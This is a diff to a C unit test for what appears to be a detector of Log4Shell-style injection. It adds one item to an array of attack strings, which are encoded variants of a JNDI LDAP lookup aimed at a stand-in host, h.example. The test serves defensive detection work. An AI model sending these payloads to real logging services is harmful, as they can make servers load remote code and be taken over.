@@ -209,7 +209,7 @@ static void finds_every_line_of_a_block(void **state)
     static const char *const attacks[] = {
         "${", "$%7B", "%24{", "x%24%7Bjndi:ldap://h.example/a%7D", "\\u0024\\u007b", "&#36;{", "&dollar;{", "\\44{", "%2524%257B",
         "JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX0=", "/?d=JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX0%3D", "/x/JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX0",
-        "&#61JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX0=", "q=hello+JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX0=", "\\x24\\x7B",
+        "&#61JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX0=", "&#38equalsJHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX0=", "q=hello+JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX0=", "\\x24\\x7B",
     };
     for (unsigned i = 0; i < runs(30); i++)
         for (unsigned pad = 0; pad <= 130; pad++) {
